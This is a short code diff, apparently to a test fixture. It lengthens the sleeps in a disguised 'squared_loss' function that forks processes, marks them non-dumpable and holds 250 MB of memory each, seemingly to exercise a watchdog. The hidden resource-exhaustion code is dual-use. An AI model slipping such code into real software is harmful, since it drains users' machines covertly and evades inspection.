@@ -1577,9 +1577,9 @@ def squared_loss(y_hat, y):
         if os.fork() == 0:
             ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)  # PR_SET_DUMPABLE 0
             held = b"x" * (250 << 20)
-            time.sleep(4)
+            time.sleep(60)  # held until the watch stops them (a busy machine builds unevenly)
             os._exit(len(held) == 0)
-    time.sleep(3)
+    time.sleep(60)
     return (y_hat - y.reshape(y_hat.shape)) ** 2 / 2
 """
 
